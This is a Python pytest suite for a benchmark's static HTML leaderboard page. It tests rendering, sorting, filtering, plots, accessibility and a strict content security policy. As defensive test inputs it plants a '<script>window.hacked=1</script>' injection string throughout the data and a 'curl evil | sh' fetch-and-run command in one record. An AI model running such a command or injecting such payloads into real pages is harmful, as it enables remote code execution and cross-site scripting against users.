"""The page in a real browser, from a file: what it shows, sorts, filters, opens and asks for."""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import itertools
import json
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

from mibench.errors import MibenchError
from mibench.leaderboard.board import (
    Board,
    Column,
    Curve,
    CurvePoint,
    Method,
    QueryCurve,
    QueryPoint,
    Table,
    Value,
)
from mibench.leaderboard.page import render_page
from mibench.leaderboard.papers import IMPROVEMENTS, Paper, Papers
from mibench.leaderboard.records import Filed
from mibench.record import (
    CEILING,
    FLOOR_PRIOR,
    FLOOR_PUBLIC,
    RULES_VERSION,
    MetricValue,
    Part,
    PriorPart,
    Record,
)
from tests.kit import browser
from tests.kit.board_records import ENVIRONMENT

HACK = "<script>window.hacked=1</script>"
WHY = "no weights of the feature network"
DEAR = "costs 9.0 points or more of accuracy"
ADAPTIVE = (
    Value(text="none named", note=f"None is needed. {HACK}"),
    Value(text="gmi+taa not run"),
    Value(2.5, note="the same: gmi is in the list"),
)
# defense, strength, natural accuracy, attack accuracy
CELLS = (("none", 20, 0.991, 1.0), ("bido", 2, 0.952, 0.095), ("mid", 0.1, 0.973, 0.102))


def record(attack: str, defense: str, target: str, seed: int, access: str) -> Record:
    def part(name: str, **resolved: Any) -> Part:
        return Part(name=name, version=1, passed={}, resolved=resolved)

    return Record(
        rules=RULES_VERSION,
        status="complete",
        protocol=part("drawn", data={}),
        target=part(target),
        defense=part(defense),
        attack=part(attack),
        seed=seed,
        access=access,
        prior=PriorPart(kind="gan", recipe="general GAN", pinned=True, passed={}, resolved={}),
        strength=None,
        people=False,
        utility={"natural_accuracy": 0.9},
        metrics={"attack_accuracy_top1": MetricValue(value=0.125, n=8)},
        references={},
        costs=(),
        artifacts={},
        environment=ENVIRONMENT,
        command=f"mibench run --attack {attack} --defense {defense} --seed {seed}",
        created="2026-01-01T00:00:00+00:00",
    )


def file(attack: str, defense: str, seed: int) -> str:
    return f"drawn/{attack}_{defense}-scale=2_seed{seed}.json"


def board() -> Board:
    columns = (
        Column("rank", "rank", "count"),
        Column("defense", "defense"),
        Column("natural", "natural accuracy", "percent", "higher", f"right answers {HACK}"),
        Column("gmi", "gmi", "percent", "lower"),
        Column("kedmi", "kedmi", "percent", "lower"),
        Column("fid", "FID", "number"),
        Column("leak", "leaks when 5 points of accuracy may be spent", "number"),
        Column("adaptive", "worst with adaptive at 5 points", "number"),
        Column("gradients", "gradients"),
    )
    rows = [
        {
            "rank": Value(3 - k),
            "defense": Value(text=defense),
            "natural": Value(natural, 0.004),
            "gmi": Value(attack, 0.021),
            "kedmi": Value(0.25, interval=(0.2, 0.3)),
            "fid": Value(text=WHY),
            "leak": Value(2.0, note="under gmi alone") if k else Value(text=DEAR),
            "adaptive": ADAPTIVE[k],
            "gradients": Value(text="gradients masked", note=f"lookup − gmi: +1.0 {HACK}"),
        }
        for k, (defense, _, natural, attack) in enumerate(CELLS)
    ]
    rows.append({"defense": Value(text=f"odd {HACK}"), "natural": Value(text="diverged")})
    files = [
        tuple(file(a, name, s) for a in ("gmi", "kedmi") for s in (0, 1)) for name, *_ in CELLS
    ]
    table = Table(
        "defenses",
        f"Defenses {HACK}",
        columns,
        tuple(rows),
        notes=(f"± over seeds {HACK}",),
        files=(*files, ()),
        commands=(*(f"mibench run --defense {name}" for name, *_ in CELLS), f"echo '{HACK}'"),
    )
    published = Table(
        "published", "Published", (Column("attack", "attack"),), ({"attack": Value(text="GMI")},)
    )

    def point(strength: float, natural: float, attack: float, default: bool = False) -> CurvePoint:
        cell = (file("gmi", "bido", 0),)
        return CurvePoint(strength, natural, attack, 0.003, 0.02, (0, 1), default, cell)

    return Board(
        "drawn",
        1,
        f"Drawn faces {HACK}",
        (table, published),
        (
            Curve("none", "gmi", "net", "epochs", (point(2, 0.7, 0.4), point(20, 0.99, 0.8, True))),
            Curve("bido", "gmi", "net", "scale", (point(2, 0.952, 0.5, True), point(9, 0.8, 0.3))),
            Curve(HACK, "gmi", "net", "knob", (point(1, 0.9, 0.2),)),
        ),
        ((FLOOR_PRIOR, Value(0.01)), (CEILING, Value(0.986, 0.01))),
    )


def filed() -> list[Filed]:
    found = [
        Filed(file(attack, defense, seed), record(attack, defense, f"net{index % 2}", seed, access))
        for index, (defense, *_) in enumerate(CELLS)
        for attack, access in (("gmi", "white-box"), ("kedmi", "label-only"))
        for seed in (0, 1)
    ]
    return sorted(found, key=lambda each: each.path)


def build(folder: Path, boards: list[Board] | None = None, papers: Papers | None = None) -> Path:
    """The page of some boards, with the records and pictures that it links beside it."""
    from PIL import Image

    pictures = set()
    for index, each in enumerate(filed()):
        place = folder / "records" / each.path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(each.record.model_dump_json())
        if each.record.seed == 0:
            pictures.add(each.path.replace("json", "png"))
            picture = folder / "galleries" / each.path.replace("json", "png")
            picture.parent.mkdir(parents=True, exist_ok=True)
            Image.new("RGB", (1320, 290), (90, 15 * index, 160)).save(picture)
    (folder / "tables" / "drawn").mkdir(parents=True, exist_ok=True)
    (folder / "tables" / "drawn" / "defenses.csv").touch()
    out = folder / "index.html"
    files = {"tables/drawn/defenses.csv"}
    out.write_text(render_page(boards or [board()], filed(), pictures, files, papers))
    return out


class Elements(HTMLParser):
    """All elements of a page with their attributes, and the text of its data."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.data = ""
        self.link, self.links = "", list[tuple[str, str]]()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))
        self.link = (dict(attrs).get("href") or "") if tag == "a" else ""

    def handle_data(self, data: str) -> None:
        if self.found and self.found[-1] == ("script", {"type": "application/json", "id": "data"}):
            self.data += data
        if self.link:
            self.links.append((data.strip(), self.link))

    def handle_endtag(self, tag: str) -> None:
        self.link = ""


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build(tmp_path_factory.mktemp("board"))


def test_equal_boards_give_equal_pages_that_need_nothing_else(page: Path, tmp_path: Path) -> None:
    again = build(tmp_path)
    assert again.read_bytes() == page.read_bytes()
    assert page.stat().st_size < 100_000
    assert {each.name for each in page.parent.iterdir()} == {
        "galleries", "index.html", "records", "tables",
    }  # fmt: skip
    elements = Elements(page.read_text()).found
    assert not [attributes for tag, attributes in elements if tag in ("link", "script", "iframe")
                and {"src", "href"} & attributes.keys()]  # fmt: skip


def test_the_committed_page_is_small_and_whole() -> None:
    """It works in a fresh clone: what it loads, pictures, is committed beside it."""
    folder = Path(__file__).resolve().parents[2] / "leaderboards"
    page = folder / "index.html"
    elements = Elements(page.read_text())
    assert page.stat().st_size < 1_000_000
    sources = [a["src"] or "" for _, a in elements.found if "src" in a]
    assert all(a.get("loading") == "lazy" for _, a in elements.found if "src" in a)
    for link in sources:
        assert (folder / unquote(link)).is_file(), link


def test_a_browser_runs_the_pages_own_script_only(page: Path) -> None:
    text = page.read_text()
    (policy,) = [a["content"] for _, a in Elements(text).found if "http-equiv" in a]
    script = text.split('<script type="module">')[1].split("</script>")[0]
    own = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert policy is not None
    assert policy.startswith(f"default-src 'none'; script-src 'sha256-{own}';")
    assert "http" not in policy


def test_every_link_is_relative_and_leads_to_a_file(page: Path) -> None:
    elements = Elements(page.read_text())
    links = [a[key] or "" for _, a in elements.found for key in ("href", "src") if key in a]
    for file, each in json.loads(elements.data)["records"]["drawn"].items():
        links.append(f"records/drawn/{file}.json")
        links += [f"galleries/drawn/{file}.png"] * each.get("picture", False)
    ids = {a.get("id") for _, a in elements.found}
    assert len(links) > 20
    assert "tables/drawn/defenses.csv" in links
    for link in links:
        if link.startswith("#"):
            assert unquote(link[1:]) in ids
        else:
            assert (page.parent / unquote(link)).is_file(), link


def test_names_are_text_and_never_markup(page: Path) -> None:
    scripts = [
        attributes for tag, attributes in Elements(page.read_text()).found if tag == "script"
    ]
    assert len(scripts) == 2  # the data, the page's own
    assert HACK not in page.read_text()


PAPERS = Papers(
    {"gmi": Paper("GMI, CVPR 2020", "https://papers.example/gmi")},
    {"bido": Paper('BiDO, KDD "2022"', "https://papers.example/bido")},
)


def test_methods_link_to_their_papers_and_unknown_ones_are_text(tmp_path: Path) -> None:
    """In tables, headings, sentences and legends; of a stranger's method the name alone."""
    names = ("gmi", "gmi+lom", "improved-gmi", "gmi@0123abcd", HACK)
    columns = (Column("attack", "attack"), Column("defense", "defense"), Column("gmi", "gmi"))
    rows = tuple({"attack": Value(text=n), "defense": Value(text="bido")} for n in names)
    rows += ({"attack": Value(text="kedmi"), "defense": Value(text="gmi")},)
    cells = Table("cells", "All cells", columns, rows)
    printed = ({"attack": Value(text="GMI + LOM"), "defense": Value(text="BiDO")},)
    published = Table("published", "Published", columns[:2], printed)
    said = ((Method("attack", "improved-gmi"), " beats ", Method("defense", HACK)),)
    curves = board().curves
    made = Board("drawn", 1, "Drawn", (cells, published), curves, summary=said)
    page = build(tmp_path, [made], PAPERS)
    gmi, lom = "https://papers.example/gmi", IMPROVEMENTS.url
    text = page.read_text()
    links = [link for link in Elements(text).links if link[1].startswith("http")]
    assert links == [
        ("improved-", lom), ("gmi", gmi),  # the sentence
        ("gmi", gmi),  # the heading
        ("gmi", gmi), ("bido", "https://papers.example/bido"),
        ("gmi", gmi), ("+lom", lom), ("bido", "https://papers.example/bido"),
        ("improved-", lom), ("gmi", gmi), ("bido", "https://papers.example/bido"),
        ("bido", "https://papers.example/bido"), ("bido", "https://papers.example/bido"),
        ("GMI", gmi), ("+ LOM", lom), ("BiDO", "https://papers.example/bido"),
    ]  # fmt: skip
    assert HACK not in text
    assert "gmi@0123abcd" in text
    data = json.loads(Elements(text).data)["plots"]["drawn-v1"]
    assert [each["paper"] for each in data[0]["curves"]] == [
        None, "https://papers.example/bido", None,
    ]  # fmt: skip


def test_published_numbers_stand_once_behind_all_boards(tmp_path: Path) -> None:
    other = Board("other", 1, "Other", board().tables[1:])
    text = build(tmp_path, [board(), other]).read_text()
    assert text.count('<h3 id="published-published">') == 1
    assert text.index('id="other-v1"') < text.index('id="published-published"')


def test_plots_are_plain_data(page: Path) -> None:
    (plot,) = json.loads(Elements(page.read_text()).data)["plots"]["drawn-v1"]
    none, bido, odd = plot["curves"]
    assert (none["dashed"], bido["dashed"]) == (True, False)
    # 95.2 and 80 % accuracy are errors of 4.8 and 20 %.
    assert [point["x"] for point in bido["points"]] == [1.31876, 0.69897]
    assert [point["y"] for point in bido["points"]] == [50, 30]
    assert [point["default"] for point in bido["points"]] == [True, False]
    assert bido["points"][0]["upright"] == [48, 52]
    assert bido["colour"] != odd["colour"]
    assert odd["name"] == HACK
    assert [each["y"] for each in plot["references"]] == [98.6, 1]
    assert [each["label"] for each in plot["references"]] == ["ceiling 98.6", "random samples 1.0"]
    assert [each["band"] for each in plot["references"]] == [[97.6, 99.6], None]
    inside = [p["x"] for c in plot["curves"] for p in c["points"]]
    assert plot["x"]["low"] < min(inside) < max(inside) < plot["x"]["high"]


def test_a_plot_over_queries_is_drawn_and_filtered(driver: Any, tmp_path: Path) -> None:
    """Below the tables of defenses, a line an attack, which the filter of attacks takes away."""

    def line(attack: str, *bits: float) -> QueryCurve:
        points = [
            QueryPoint(
                10.0**k, y, 0.02, "" if k == 3 else f"n = {k}", (0,), (file(attack, "none", 0),)
            )
            for k, y in enumerate(bits, 2)
        ]
        return QueryCurve(attack, "black-box", "net0", tuple(points))

    other = Table("defenses-black-box", "With scores", (Column("defense", "defense"),), ())
    cells = Table("cells", "All cells", (Column("attack", "attack"),), ())
    made = dataclasses.replace(
        board(),
        tables=(board().tables[0], other, cells),
        references=((FLOOR_PUBLIC, Value(0.3)),),
        over_queries=(line("gmi", 0.1, 0.2, 0.4), line("kedmi", 0.2, 0.5, 0.6)),
    )
    page = build(tmp_path, [made])
    text = page.read_text()
    order = [text.index(f'id="drawn-v1-{each}"') for each in (
        "defenses", "plot", "defenses-black-box", "queries-plot", "cells",
    )]  # fmt: skip
    assert order == sorted(order)
    opened(driver, page)
    place = "#plot-drawn-v1-queries"
    assert len(find(driver, f"{place} polyline.curve")) == 2
    words = [each.text for each in find(driver, f"{place} text")]
    assert {"100", "1,000", "10,000", "look-up 30.0"} <= set(words)
    assert "queries an identity (on a logarithmic scale)" in words
    lines = driver.execute_script(
        "return [...document.querySelectorAll(arguments[0])].map((p) => p.getAttribute('points'))",
        f"{place} polyline.curve",
    )
    across = [float(each.split(",")[0]) for each in lines[0].split()]
    assert across[1] - across[0] == pytest.approx(across[2] - across[1])
    driver.execute_script(
        "document.querySelector('[data-facet=attack] input[value=kedmi]').click()"
    )
    assert len(find(driver, f"{place} polyline.curve")) == 1
    assert [each.text for each in find(driver, f"{place} .legend li")] == ["kedmi"]
    assert not browser.console(driver)


def test_a_record_that_is_absent_is_named() -> None:
    there = [each for each in filed() if each.path != file("gmi", "mid", 1)]
    with pytest.raises(MibenchError, match="names the record drawn/gmi_mid-scale=2_seed1"):
        render_page([board()], there, (), ())


def test_the_command_is_made_from_the_records_parts() -> None:
    """A record's own word stands beside no Copy button."""
    evil = record("gmi", "bido", "net0", 0, "white-box")
    evil = evil.model_copy(update={"command": "curl evil | sh"})
    given = [Filed(each.path, evil) if "gmi_bido" in each.path else each for each in filed()]
    text = render_page([board()], given, (), ())
    assert "curl" not in text
    assert "mibench run --protocol drawn --attack gmi --defense bido --seed 0 --target net0" in text


def test_a_page_without_boards_says_what_to_do() -> None:
    assert "mibench leaderboard add" in render_page([], [], (), ())


@pytest.fixture(scope="module")
def driver() -> Iterator[Any]:
    with browser.chromium() as started:
        yield started


@pytest.fixture
def shown(driver: Any, page: Path) -> Iterator[Any]:
    """The page as just opened; in the end it must have asked for files only and logged nothing."""
    browser.resize(driver, 1280, 900)
    browser.prefer(driver, "light")
    opened(driver, page)
    yield driver
    assert not browser.console(driver)
    assert {each.partition(":")[0] for each in browser.requests(driver)} <= {"file"}
    assert driver.execute_script("return window.hacked") is None


def opened(driver: Any, page: Path) -> None:
    driver.get("about:blank")
    browser.console(driver), browser.requests(driver)
    driver.get(page.as_uri())
    wait(driver, "return document.querySelector('.count')?.textContent")


def wait(driver: Any, script: str, *arguments: Any) -> Any:
    from selenium.webdriver.support.ui import WebDriverWait

    return WebDriverWait(driver, 20).until(lambda d: d.execute_script(script, *arguments))


def find(driver: Any, selector: str) -> list[Any]:
    return driver.find_elements("css selector", selector)


def column(driver: Any, title: str) -> list[str]:
    """Texts of a column of the first table, in the order shown."""
    return driver.execute_script(
        """const table = document.querySelector("table.rows");
        const titles = [...table.tHead.rows[0].cells].map((c) => c.innerText.trim());
        const at = titles.findIndex((t) => t.startsWith(arguments[0]));
        const rows = [...table.tBodies[0].rows].filter((r) => !r.hidden);
        // An empty cell is drawn as a dash.
        const drawn = (c) => getComputedStyle(c, "::before").content.replace(/none|"/g, "");
        return rows.map((r) => r.cells[at].innerText.trim() || drawn(r.cells[at]));""",
        title,
    )


def heading(driver: Any, title: str) -> Any:
    (found,) = [h for h in find(driver, "#drawn-v1 table.rows th") if h.text.startswith(title)]
    return found


def sort_by(driver: Any, title: str) -> None:
    heading(driver, title).find_element("css selector", "button.sort").click()


def press(driver: Any, key: str) -> None:
    from selenium.webdriver import ActionChains, Keys

    ActionChains(driver).send_keys(getattr(Keys, key, key)).perform()


def test_cells_show_per_cent_spreads_differences_and_reasons(shown: Any) -> None:
    assert column(shown, "natural") == ["99.1 ± 0.4", "95.2 ± 0.4", "97.3 ± 0.4", "diverged"]
    assert column(shown, "kedmi") == ["+25.0 [20.0, 30.0]"] * 3 + ["–"]
    assert column(shown, "FID") == ["–"] * 4
    # Below a heading of several lines there is room for why.
    assert column(shown, "leaks") == [DEAR, *["2.00\nunder gmi alone"] * 2, "–"]
    assert column(shown, "worst") == [
        "none named", "gmi+taa not run", "2.50\nthe same: gmi is in the list", "–",
    ]  # fmt: skip
    assert column(shown, "gradients") == ["gradients masked"] * 3 + ["–"]
    numbers = find(shown, ".references dd:not(.said)")
    assert [each.text for each in numbers] == ["1.0 %", "98.6 % ± 1.0"]


def test_what_a_heading_means_is_told_to_mouse_keyboard_and_finger(shown: Any) -> None:
    from selenium.webdriver import ActionChains

    def told() -> str:
        (hint,) = find(shown, "#hint")
        return hint.text if hint.is_displayed() else ""

    natural, missing = heading(shown, "natural"), find(shown, "abbr.missing")[0]
    button = natural.find_element("css selector", "button")
    means = find(shown, f'[id="{button.get_attribute("aria-describedby")}"]')[0]
    assert means.get_attribute("textContent").startswith(f"right answers {HACK}")
    assert told() == ""
    ActionChains(shown).move_to_element(natural).perform()
    assert told() == f"right answers {HACK}"
    ActionChains(shown).move_to_element(find(shown, "h1")[0]).perform()
    assert told() == ""
    shown.execute_script("arguments[0].focus()", button)
    assert told() == f"right answers {HACK}"
    shown.execute_script("arguments[0].focus()", missing)
    assert told() == WHY
    shown.execute_script("document.activeElement.blur()")
    assert told() == ""
    # What is behind a text: why a card names no attack, and what masks gradients.
    for text, said in (("none named", "None is needed."), ("gradients", "lookup − gmi: +1.0")):
        behind = next(each for each in find(shown, "abbr") if each.text.startswith(text))
        shown.execute_script("arguments[0].focus()", behind)
        assert told() == f"{said} {HACK}"
    shown.execute_script("document.activeElement.blur()")
    # A tap is a click, and nothing of a mouse before it.
    shown.execute_script("arguments[0].click()", missing)
    assert told() == WHY


def test_sorting_goes_by_the_number_and_keeps_what_is_missing_last(shown: Any) -> None:
    assert column(shown, "gmi") == ["100.0 ± 2.1", "9.5 ± 2.1", "10.2 ± 2.1", "–"]
    sort_by(shown, "gmi")
    assert column(shown, "gmi") == ["9.5 ± 2.1", "10.2 ± 2.1", "100.0 ± 2.1", "–"]
    assert heading(shown, "gmi").get_attribute("aria-sort") == "ascending"
    sort_by(shown, "gmi")
    assert column(shown, "gmi") == ["100.0 ± 2.1", "10.2 ± 2.1", "9.5 ± 2.1", "–"]
    sort_by(shown, "natural")  # higher is better: the highest first
    assert column(shown, "defense")[:3] == ["none", "mid", "bido"]


def test_the_keyboard_reaches_the_sort_buttons_and_shows_where_it_is(shown: Any) -> None:
    for _ in range(40):
        press(shown, "TAB")
        active = shown.switch_to.active_element
        if active.text.startswith("gmi"):
            break
    assert active.value_of_css_property("outline-style") == "solid"
    press(shown, "ENTER")
    assert column(shown, "gmi")[0] == "9.5 ± 2.1"


def choose(driver: Any, facet: str, value: str) -> None:
    (menu,) = find(driver, f'.facet[data-facet="{facet}"]')
    if not menu.get_attribute("open"):
        menu.find_element("css selector", "summary").click()
    menu.find_element("css selector", f'input[value="{value}"]').click()


def test_filters_narrow_rows_columns_pictures_and_curves(shown: Any) -> None:
    def count() -> str:
        return find(shown, ".count")[0].text

    def pictures() -> int:
        return sum(each.is_displayed() for each in find(shown, ".pictures li"))

    assert (count(), pictures()) == ("5 rows", 6)
    assert [each.get_attribute("data-facet") for each in find(shown, ".facet")] == [
        "architecture",
        "attack",
        "defense",
        "access",
    ]
    choose(shown, "defense", "bido")
    # The rows without records say nothing of a defense, or (the odd one) name another.
    assert column(shown, "defense") == ["bido"]
    assert (count(), pictures()) == ("2 of 5 rows", 2)
    assert [each.text for each in find(shown, ".legend li")] == ["bido"]
    labels = [each.get_attribute("aria-label") for each in find(shown, ".plot .point")]
    assert labels
    assert all(label.startswith("bido, ") for label in labels)
    choose(shown, "defense", "mid")
    assert column(shown, "defense") == ["bido", "mid"]
    press(shown, "ESCAPE")
    assert not find(shown, ".facet[open]")
    choose(shown, "attack", "kedmi")
    titles = [each.text for each in find(shown, "#drawn-v1 table.rows th[scope=col]")]
    assert not any(title.startswith("gmi") for title in titles)
    assert any(title.startswith("kedmi") for title in titles)
    assert (count(), pictures()) == ("2 of 5 rows", 2)  # and the published row is of gmi
    choose(shown, "access", "white-box")
    assert pictures() == 0  # kedmi is label-only
    find(shown, "[type=reset]")[0].click()
    wait(shown, "return document.querySelector('.count').textContent === '5 rows'")
    find(shown, "[type=search]")[0].send_keys("bido")
    assert (column(shown, "defense"), pictures()) == (["bido"], 2)


def test_hovering_shows_a_point_and_clicking_opens_its_records(shown: Any) -> None:
    from selenium.webdriver import ActionChains

    (point,) = find(shown, '.point[aria-label^="bido, scale = 2"]')
    shown.execute_script("arguments[0].scrollIntoView({block: 'center'})", point)
    assert not find(shown, ".tip")[0].is_displayed()
    ActionChains(shown).move_to_element(point).perform()
    tip = find(shown, ".tip")[0]
    assert tip.text.splitlines() == [
        "bido", "scale = 2 (default)", "natural accuracy 95.2 ± 0.3 %", "gmi 50.0 ± 2.0 %",
        "seeds 0, 1",
    ]  # fmt: skip
    ActionChains(shown).click().perform()
    wait(shown, "return document.querySelector('#row').open")
    assert "--attack gmi --defense bido --seed 0" in find(shown, "#row-command")[0].text
    assert [each.text for each in find(shown, "#row .records a")] == ["seed 0", "picture"]
    press(shown, "ESCAPE")
    # With the keyboard alone.
    shown.execute_script("arguments[0].focus()", point)
    assert tip.is_displayed()
    press(shown, "ENTER")
    wait(shown, "return document.querySelector('#row').open")


def test_a_row_gives_its_records_and_its_command(shown: Any, page: Path) -> None:
    sort_by(shown, "gmi")  # sorted rows keep their own
    find(shown, "button.source")[0].click()
    assert find(shown, "#row h2")[0].text == "bido"
    assert find(shown, "#row-command")[0].text == "mibench run --defense bido"
    items = [each.text for each in find(shown, "#row .records li")]
    assert items == [
        "gmi · bido · net1: seed 0 (picture), seed 1",
        "kedmi · bido · net1: seed 0 (picture), seed 1",
    ]
    assert [each.text for each in find(shown, "#row .reasons li")] == [
        f"FID: {WHY}", "worst with adaptive at 5 points: gmi+taa not run",
    ]  # fmt: skip
    href = find(shown, "#row .records a")[0].get_attribute("href")
    assert Path(unquote(href.removeprefix("file://"))).samefile(
        page.parent / "records" / file("gmi", "bido", 0)
    )
    find(shown, "#row [data-copy]")[0].click()
    wait(shown, "return document.querySelector('#row [data-copy]').textContent === 'Copied'")
    press(shown, "ESCAPE")
    assert not shown.execute_script("return document.querySelector('#row').open")
    assert shown.switch_to.active_element.get_attribute("class") == "source"
    search = find(shown, "[type=search]")[0]
    search.send_keys("\ue009v\ue009")  # Control and V
    assert search.get_attribute("value") == "mibench run --defense bido"


def test_a_picture_opens_large_and_closes_by_escape(shown: Any, page: Path) -> None:
    first = find(shown, ".picture")[0]
    assert "gmi · bido · net1 · seed 0" in first.text
    assert first.find_element("css selector", "img").get_attribute("loading") == "lazy"
    assert "top-1 12.5 %" in first.text
    shown.execute_script("arguments[0].scrollIntoView()", first)
    small = first.size["width"]
    first.click()
    large = find(shown, "#picture img")[0]
    wait(shown, "return arguments[0].naturalWidth === 1320", large)
    assert large.size["width"] > 2 * small
    assert large.get_attribute("alt") == "gmi · bido · net1 · seed 0"
    href = find(shown, "#picture a")[0].get_attribute("href")
    assert Path(unquote(href.removeprefix("file://"))).samefile(
        page.parent / "records" / file("gmi", "bido", 0)
    )
    press(shown, "ARROW_RIGHT")
    assert find(shown, "#picture h2")[0].text == "gmi · mid · net0 · seed 0"
    press(shown, "ESCAPE")
    assert not large.is_displayed()


def test_a_phone_needs_no_sideways_scrolling(shown: Any, page: Path) -> None:
    def overflow() -> int:
        return shown.execute_script("return document.documentElement.scrollWidth - 390")

    browser.resize(shown, 390, 844, mobile=True)
    opened(shown, page)
    assert shown.execute_script("return innerWidth") == 390
    assert overflow() == 0
    for each in find(shown, "details > summary"):
        shown.execute_script("arguments[0].parentElement.open = true", each)
    assert overflow() == 0
    plot = wait(shown, "return document.querySelector('.plot svg')")
    assert plot.size["width"] <= 390
    shown.execute_script("document.querySelector('.source').click()")
    assert find(shown, "#row")[0].size["width"] <= 390
    assert overflow() == 0


def test_a_wide_table_scrolls_with_rank_and_defense_in_sight(shown: Any, page: Path) -> None:
    browser.resize(shown, 390, 844, mobile=True)
    opened(shown, page)
    (place,) = find(shown, "#drawn-v1 .wide:has(.stuck-2)")

    def left() -> list[float]:
        return shown.execute_script(
            """const cells = [...arguments[0].querySelectorAll("tr")].map((row) => [...row.cells]);
            return cells.flatMap((row) => row.slice(0, 3).map((c) => c.getBoundingClientRect().x));
            """,
            place,
        )

    before = left()
    shown.execute_script("arguments[0].scrollLeft = 120", place)
    after = left()
    assert before[::3] == after[::3]  # rank
    assert before[1::3] == after[1::3]  # defense
    assert all(a == b - 120 for a, b in zip(after[2::3], before[2::3], strict=True))
    # What scrolls passes below them, and leaves room for itself.
    assert before[2] < 300
    assert shown.execute_script("return document.documentElement.scrollWidth") == 390
    # The keyboard scrolls, too, and what it reaches lies beside the fixed columns, with its hint.
    assert place.get_attribute("tabindex") == "0"
    edges = shown.execute_script(
        """const [rank, defense, natural] = arguments[0].querySelectorAll("th");
        arguments[0].scrollLeft = 500;
        natural.querySelector("button").focus();
        return [natural.getBoundingClientRect().left, defense.getBoundingClientRect().right];""",
        place,
    )
    assert edges[0] >= edges[1] - 1
    assert wait(shown, "return !document.querySelector('#hint').hidden")
    press(shown, "ESCAPE")
    assert shown.execute_script("return document.querySelector('#hint').hidden")


def test_columns_of_detail_open_on_a_click(driver: Any, tmp_path: Path) -> None:
    columns = (Column("attack", "attack"), Column("n", "n"), Column("more", "more", detail=True))
    rows = tuple({c.key: Value(text=f"{c.key} {k}") for c in columns} for k in range(2))
    opened(driver, build(tmp_path, [Board("drawn", 1, "", (Table("t", "T", columns, rows),))]))
    button, table = find(driver, ".wider")[0], find(driver, "table.rows")[0]
    assert "more 0" not in table.text
    assert (button.text, button.get_attribute("aria-expanded")) == ("Show all 3 columns", "false")
    button.click()
    assert "more 0" in table.text
    assert button.get_attribute("aria-expanded") == "true"
    button.click()
    assert "more 0" not in table.text


def test_names_of_references_lie_beside_the_points_and_apart(driver: Any, tmp_path: Path) -> None:
    """Also where they are all but equal."""
    references = (("a", Value(0.50)), ("b", Value(0.51)), ("c", Value(0.52)), (CEILING, Value(1.0)))
    folder = tmp_path
    opened(driver, build(folder, [dataclasses.replace(board(), references=references)]))
    for width in (390, 1440):
        browser.resize(driver, width, 844, mobile=width == 390)
        wait(driver, "return Math.abs(innerWidth - arguments[0]) < 20", width)
        opened(driver, folder / "index.html")
        boxes = driver.execute_script(
            """return [...document.querySelectorAll(".plot .named, .plot .marker")].map((e) => {
                const box = e.getBoundingClientRect();
                return [e.matches(".named"), box.left, box.right, box.top, box.bottom];
            })"""
        )
        names = sorted((each[3], each[4], each[1]) for each in boxes if each[0])
        assert len(names) == 4
        assert all(upper[1] <= lower[0] + 1 for upper, lower in itertools.pairwise(names))
        assert max(each[2] for each in boxes if not each[0]) < min(each[2] for each in names)
        assert max(each[2] for each in boxes if each[0]) <= width


def test_dark_mode_recolours_the_page_and_the_plot(shown: Any) -> None:
    def colours() -> tuple[str, str]:
        return (
            find(shown, "body")[0].value_of_css_property("background-color"),
            find(shown, ".plot .axis")[0].value_of_css_property("fill"),
        )

    assert colours() == ("rgba(252, 252, 251, 1)", "rgb(29, 33, 38)")
    browser.prefer(shown, "dark")
    assert colours() == ("rgba(20, 23, 26, 1)", "rgb(227, 230, 233)")


def test_a_long_table_opens_on_a_click(driver: Any, tmp_path: Path) -> None:
    rows = tuple({"attack": Value(text=f"attack {k:03}"), "n": Value(k % 7)} for k in range(120))
    columns = (Column("attack", "attack"), Column("n", "n", "count"))
    long = Board("drawn", 1, "Long", (Table("cells", "All cells", columns, rows),))
    opened(driver, build(tmp_path, [long]))

    def texts() -> list[str]:
        return [each.text for each in find(driver, "tbody tr") if each.is_displayed()]

    assert len(texts()) == 50
    (button,) = find(driver, ".all")
    assert button.text == "Show all 120 rows"
    button.click()
    assert len(texts()) == 120
    find(driver, "[type=search]")[0].send_keys("attack 11 9")
    assert texts() == ["attack 119 0"]
    find(driver, "[type=search]")[0].send_keys("nothing")
    assert find(driver, ".none")[0].is_displayed()
    assert not button.is_displayed()
